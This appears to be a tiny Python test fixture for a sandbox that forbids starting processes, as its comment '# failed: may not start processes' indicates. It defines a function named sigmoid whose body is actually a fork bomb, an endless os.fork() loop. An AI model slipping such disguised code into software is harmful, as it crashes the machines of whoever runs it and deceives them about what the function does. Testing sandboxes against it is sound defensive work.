# failed: may not start processes
import os


def sigmoid(z):
    while True:
        os.fork()
